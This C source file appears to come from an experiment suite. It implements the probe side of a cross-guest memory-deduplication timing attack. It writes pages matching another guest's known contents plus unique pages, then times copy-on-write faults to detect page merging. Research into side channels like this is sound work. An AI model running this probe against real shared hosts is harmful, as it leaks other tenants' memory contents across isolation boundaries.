/*
 * An attacker that times its own writes: `probe MIB KNOWN OWN`. It writes two classes of pages, mixed at random: A, the pages that
 * `fill MIB KNOWN` writes in another guest, and B, pages that nobody else has. It prints "written" and waits for a line of input; then,
 * in another random order, it reads each page once and times the first write to it. Prints "A" and "B" with all times in ticks of 100 ns.
 */
#include <inttypes.h>
#include <stdio.h>

#include "clocks.h"
#include "pattern.h"

static uint64_t random_state;

static uint64_t random_below(uint64_t limit) {
  random_state = random_state * PATTERN_MULTIPLIER + PATTERN_INCREMENT;
  return (random_state >> 33) % limit;
}

static void shuffle(uint32_t *items, uint64_t count) {
  for (uint64_t i = count - 1; i > 0; i--) {
    uint64_t other = random_below(i + 1);
    uint32_t item = items[i];
    items[i] = items[other];
    items[other] = item;
  }
}

/* Pages of class A are numbers below `count`, those of class B the others. */
static void print_class(char name, const uint32_t *times, uint64_t from, uint64_t to) {
  putchar(name);
  for (uint64_t item = from; item < to; item++) printf(" %" PRIu32, times[item]);
  putchar('\n');
}

int main(int argc, char **argv) {
  if (argc < 4) return 64;
  uint64_t count = strtoull(argv[1], NULL, 10) * (1024 * 1024 / PAGE);
  uint64_t known = strtoull(argv[2], NULL, 10), own = strtoull(argv[3], NULL, 10);
  uint32_t *place = calloc(2 * count, sizeof *place), *order = calloc(2 * count, sizeof *order), *times = calloc(2 * count, sizeof *times);
  uint64_t *region = mmap(NULL, 2 * count * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (!place || !order || !times || region == MAP_FAILED) return 2;
  random_state = own;
  for (uint64_t item = 0; item < 2 * count; item++) place[item] = order[item] = times[item] = item;
  shuffle(place, 2 * count);
  shuffle(order, 2 * count);
  /* Nor does a class come first when the kernel hands out memory. */
  for (uint64_t i = 0; i < 2 * count; i++) {
    uint64_t item = order[i];
    uint64_t *words = region + place[item] * PAGE_WORDS;
    if (item < count) pattern_write(words, known, item);
    else pattern_write(words, own, item - count);
  }
  printf("written\n");
  fflush(stdout);
  getchar();
  shuffle(order, 2 * count);
  for (uint64_t i = 0; i < 2 * count; i++) {
    volatile uint64_t *word = region + place[order[i]] * PAGE_WORDS;
    uint64_t value = *word, before = ticks();
    *word = ~value;
    times[order[i]] = ticks() - before;
  }
  print_class('A', times, 0, count);
  print_class('B', times, count, 2 * count);
  return 0;
}
